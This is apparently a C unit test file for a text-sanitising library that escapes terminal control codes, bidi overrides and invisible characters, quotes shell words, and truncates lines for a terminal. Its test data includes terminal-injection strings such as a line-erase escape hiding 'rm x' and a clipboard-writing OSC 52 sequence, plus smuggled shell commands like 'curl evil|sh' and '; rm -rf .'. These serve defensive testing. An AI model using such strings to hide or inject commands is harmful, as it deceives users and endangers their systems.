/* test_neutral: what an eye cannot see is written out, what it can see is left alone. */
#include "text/neutral.h"

#include <check.h>
#include <stdlib.h>
#include <string.h>

#include "base/auto.h"

struct sample {
    const char *text, *expected;
    size_t shown;
};

#define COUNT(a) (sizeof(a) / sizeof(a)[0])
#define SAMPLE_TEXT(s) (s), sizeof(s) - 1

/* Attacks on the eye: each comes out as visible escapes, counted. */
static const struct sample hostile[] = {
    {"rm x\x1b[2K\rls", "rm x\\x1b[2K\\rls", 2},
    {"\x1b]8;;http://e\x07text\x1b]8;;\x07", "\\x1b]8;;http://e\\x07text\\x1b]8;;\\x07", 4},
    {"\x1b]52;c;QQ==\x07", "\\x1b]52;c;QQ==\\x07", 2},
    {"\x9b"
     "31m",
     "\\x9b31m", 1},
    {"\xc2\x9b"
     "31m",
     "\\u{9b}31m", 1},
    {"a\b\b\x7f", "a\\x08\\x08\\x7f", 3},
    {"a\nb\tc", "a\\nb\\tc", 2},
    {"a\u202eb\u2066\u2069", "a\\u{202e}b\\u{2066}\\u{2069}", 3},
    {"a\u200e\u200f\u061c", "a\\u{200e}\\u{200f}\\u{61c}", 3},
    {"a\u2028b\u2029", "a\\u{2028}b\\u{2029}", 2},
    {"W/app.js\u206a", "W/app.js\\u{206a}", 1},
    {"a\u200bb\u2060\ufeff\u00ad", "a\\u{200b}b\\u{2060}\\u{feff}\\u{ad}", 4},
    {"a\U000E0041\U000E007F\U000E0100", "a\\u{e0041}\\u{e007f}\\u{e0100}", 3},
    {"\u115f\u1160\u3164\uffa0\u2800", "\\u{115f}\\u{1160}\\u{3164}\\u{ffa0}\\u{2800}", 5},
    {"a\u00a0b\u2003\u3000\u1680\u205f", "a\\u{a0}b\\u{2003}\\u{3000}\\u{1680}\\u{205f}", 5},
    {"\ue000\U0010FFFD\U000F0000", "\\u{e000}\\u{10fffd}\\u{f0000}", 3},
    {"\u0378\ufdd0\uffff", "\\u{378}\\u{fdd0}\\u{ffff}", 3},
    {"a\u034f\u180e\u17b4\ufff9", "a\\u{34f}\\u{180e}\\u{17b4}\\u{fff9}", 4},
    {"\xc0\xaf\xed\xa0\x80\xf5", "\\xc0\\xaf\\xed\\xa0\\x80\\xf5", 6},
    {"\xe4\xb8", "\\xe4\\xb8", 2},
    {"pay\u200dpal\u200c", "pay\\u{200d}pal\\u{200c}", 2},
    {"a\ufe0f1\ufe0f", "a\\u{fe0f}1\\u{fe0f}", 2},
    {"\u0301a", "\\u{301}a", 1},
    {"a\n\u0301", "a\\n\\u{301}", 2},
    {"\u0645\u06cc\u200c\u200c\u062e", "\u0645\u06cc\\u{200c}\\u{200c}\u062e", 2},
    {"\U0001F468\u200d\u200d\U0001F469", "\U0001F468\\u{200d}\\u{200d}\U0001F469", 2},
    {"\u2764\ufe0f\ufe0f", "\u2764\ufe0f\\u{fe0f}", 1},
    {"\\x1b stays", "\\x1b stays", 0},
};

START_TEST(hostile_text_becomes_visible)
{
    const struct sample *s = &hostile[_i];
    gh_auto(gh_buf_fini) struct gh_buf out = GH_BUF_INIT;
    size_t shown = text_neutral(s->text, strlen(s->text), false, &out);
    ck_assert_str_eq(gh_buf_str(&out), s->expected);
    ck_assert_uint_eq(shown, s->shown);
}
END_TEST

/* Ordinary writing: unchanged, nothing counted. */
static const char *const ordinary[] = {
    "plain ASCII ~ with `every` $mark; and \"quotes\" {}",
    "שלום עולם.txt",
    "שָׁלוֹם בְּרֵאשִׁית",
    "مرحبا بالعالم",
    "می‌خواهم خانه‌ها",                             /* Persian with ZWNJ */
    "हिन्दी में क्‍ष और क्‌ष", /* Hindi with ZWJ and ZWNJ
                                                                        behind a virama */
    "র‍্য",                 /* Bengali with ZWJ before a virama */
    "ශ්‍රී ලංකා", /* Sinhala */
    "中文字，日本語のテキスト、한국어",
    "Ünïcödé e\u0301 Ελληνικά Русский",
    "👨‍👩‍👧‍👦 👩🏽‍💻 ❤️ ☺︎ 1️⃣ #️⃣ 🇩🇪🇫🇷 "
    "🏳️‍🌈",
    "ไทย ภาษาไทย ခမာ မြန်မာ ខ្មែរ",
    "\u06dd١٢٣", /* Arabic end of ayah: a format character that is drawn */
    "→ € © ½ ∑ “quoted”…",
};

START_TEST(ordinary_writing_stays_as_it_is)
{
    gh_auto(gh_buf_fini) struct gh_buf out = GH_BUF_INIT;
    size_t shown = text_neutral(ordinary[_i], strlen(ordinary[_i]), false, &out);
    ck_assert_str_eq(gh_buf_str(&out), ordinary[_i]);
    ck_assert_uint_eq(shown, 0);
}
END_TEST

START_TEST(lines_and_tabs_stay_when_asked)
{
    gh_auto(gh_buf_fini) struct gh_buf out = GH_BUF_INIT;
    size_t shown = text_neutral(SAMPLE_TEXT("a\n\tb\r\nc\vd"), true, &out);
    ck_assert_str_eq(gh_buf_str(&out), "a\n\tb\\r\nc\\x0bd");
    ck_assert_uint_eq(shown, 2);
}
END_TEST

START_TEST(a_nul_byte_does_not_end_the_text)
{
    gh_auto(gh_buf_fini) struct gh_buf out = GH_BUF_INIT;
    size_t shown = text_neutral(SAMPLE_TEXT("safe\0; rm -rf ."), false, &out);
    ck_assert_str_eq(gh_buf_str(&out), "safe\\x00; rm -rf .");
    ck_assert_uint_eq(shown, 1);
}
END_TEST

START_TEST(piled_up_marks_are_shown_from_the_ninth)
{
    gh_auto(gh_buf_fini) struct gh_buf text = GH_BUF_INIT;
    gh_auto(gh_buf_fini) struct gh_buf out = GH_BUF_INIT;
    gh_buf_putc(&text, 'x');
    for (int i = 0; i < 40; i++) {
        gh_buf_puts(&text, "\u0301");
    }
    gh_buf_puts(&text, "y\u0301");
    size_t shown = text_neutral(text.data, text.len, false, &out);
    ck_assert_uint_eq(shown, 32);
    ck_assert_mem_eq(out.data, text.data, 1 + 8 * 2);
    ck_assert_mem_eq(out.data + 17, "\\u{301}\\u{301}", 14);
    ck_assert_str_eq(out.data + out.len - 3, "y\u0301");
}
END_TEST

START_TEST(a_long_run_is_copied_whole)
{
    char text[1000];
    memset(text, 'a', sizeof text);
    for (size_t at = 0; at < sizeof text; at += 37) {
        gh_auto(gh_buf_fini) struct gh_buf out = GH_BUF_INIT;
        text[at] = '\x1b';
        ck_assert_uint_eq(text_neutral(text, sizeof text, false, &out), 1);
        ck_assert_uint_eq(out.len, sizeof text + 3);
        ck_assert_mem_eq(out.data + at, "\\x1b", 4);
        text[at] = 'a';
    }
}
END_TEST

static const struct sample words[] = {
    {"", "''", 0},
    {"ls", "ls", 0},
    {"--color=auto", "--color=auto", 0},
    {"a/b_c-d.e:f,g@h%i+j", "a/b_c-d.e:f,g@h%i+j", 0},
    {"two words", "'two words'", 0},
    {"it's", "'it'\\''s'", 0},
    {"'", "''\\'''", 0},
    {"echo hi; curl evil|sh", "'echo hi; curl evil|sh'", 0},
    {"$HOME", "'$HOME'", 0},
    {"~/x", "'~/x'", 0},
    {"*.c", "'*.c'", 0},
    {"#x", "'#x'", 0},
    {"a\\b", "'a\\b'", 0},
    {"first\nsecond", "'first\nsecond'", 0},
    {"a\rb", "'a\\rb'", 1},
    {"a\u202eb", "'a\\u{202e}b'", 1},
    {"a\u00a0b", "'a\\u{a0}b'", 1},
    {"\xff", "'\\xff'", 1},
    {"שלום.txt", "שלום.txt", 0},
    {"\u0301x", "'\\u{301}x'", 1},
};

START_TEST(a_word_is_quoted_when_a_shell_would_read_it_otherwise)
{
    const struct sample *s = &words[_i];
    gh_auto(gh_buf_fini) struct gh_buf out = GH_BUF_INIT;
    size_t shown = text_shell_word(s->text, &out);
    ck_assert_str_eq(gh_buf_str(&out), s->expected);
    ck_assert_uint_eq(shown, s->shown);
}
END_TEST

START_TEST(invisible_text_is_recognised)
{
    static const char *const none[] = {
        "",
        " ",
        "\t\r\n",
        "\u200b",
        "\ufeff \u2060",
        "\u3164\uffa0",
        "\u2800\u00a0\u3000",
        "\u202e\u202c",
        "\x1b\x07\x7f",
        "\u034f\U000E0041\ufe0f",
        "\u2028",
        "\u115f\u1160",
    };
    static const char *const some[] = {".",      " a", "\u200bа", "\xff",
                                       "\ue000", "中", "\u0301",  "\u0378"};
    for (size_t i = 0; i < COUNT(none); i++) {
        ck_assert_msg(text_is_invisible(none[i], strlen(none[i])), "%zu", i);
    }
    for (size_t i = 0; i < COUNT(some); i++) {
        ck_assert_msg(!text_is_invisible(some[i], strlen(some[i])), "%zu", i);
    }
    ck_assert(text_is_invisible(SAMPLE_TEXT("\0 \0")));
}
END_TEST

static const struct {
    const char *text;
    size_t columns;
    const char *expected;
} lines[] = {
    {"short", 10, "short"},
    {"exactly10!", 10, "exactly10!"},
    {"eleven char", 10, "eleven ..."},
    {"eleven char", 0, "eleven char"},
    {"eleven char", 3, "..."},
    {"eleven char", 2, ".."},
    {"eleven char", 1, "."},
    {"a\nb\tc", 20, "a\\nb\\tc"},
    {"中文字中文字", 12, "中文字中文字"},
    {"中文字中文字", 11, "中文字中..."},
    {"中文字中文字", 10, "中文字..."},
    {"e\u0301e\u0301e\u0301e\u0301", 4, "e\u0301e\u0301e\u0301e\u0301"},
    {"e\u0301e\u0301e\u0301e\u0301e\u0301", 4, "e\u0301..."},
    {"ab\x1b[2J", 6, "ab..."},
    {"ab\x1b[2J", 8, "ab..."},
    {"ab\x1b[2J", 9, "ab\\x1b[2J"},
    {"ab👩🏽‍💻cdefgh", 7, "ab..."},
    {"🇩🇪🇫🇷🇩🇪🇫🇷", 7, "🇩🇪🇫🇷..."},
    {"", 5, ""},
};

START_TEST(a_terminal_line_is_cut_between_characters)
{
    gh_auto(gh_buf_fini) struct gh_buf out = GH_BUF_INIT;
    text_for_terminal(lines[_i].text, lines[_i].columns, &out);
    ck_assert_str_eq(gh_buf_str(&out), lines[_i].expected);
}
END_TEST

START_TEST(a_terminal_line_is_appended_behind_what_is_there)
{
    gh_auto(gh_buf_fini) struct gh_buf out = GH_BUF_INIT;
    gh_buf_puts(&out, "id  ");
    text_for_terminal("a long title", 8, &out);
    ck_assert_str_eq(gh_buf_str(&out), "id  a lon...");
}
END_TEST

int main(void)
{
    Suite *suite = suite_create("neutral");
    TCase *tcase = tcase_create("neutral");
    suite_add_tcase(suite, tcase);
    tcase_add_loop_test(tcase, hostile_text_becomes_visible, 0, (int)COUNT(hostile));
    tcase_add_loop_test(tcase, ordinary_writing_stays_as_it_is, 0, (int)COUNT(ordinary));
    tcase_add_test(tcase, lines_and_tabs_stay_when_asked);
    tcase_add_test(tcase, a_nul_byte_does_not_end_the_text);
    tcase_add_test(tcase, piled_up_marks_are_shown_from_the_ninth);
    tcase_add_test(tcase, a_long_run_is_copied_whole);
    tcase_add_loop_test(tcase, a_word_is_quoted_when_a_shell_would_read_it_otherwise, 0,
                        (int)COUNT(words));
    tcase_add_test(tcase, invisible_text_is_recognised);
    tcase_add_loop_test(tcase, a_terminal_line_is_cut_between_characters, 0, (int)COUNT(lines));
    tcase_add_test(tcase, a_terminal_line_is_appended_behind_what_is_there);
    SRunner *runner = srunner_create(suite);
    srunner_run_all(runner, CK_NORMAL);
    int failed = srunner_ntests_failed(runner);
    srunner_free(runner);
    return failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
}
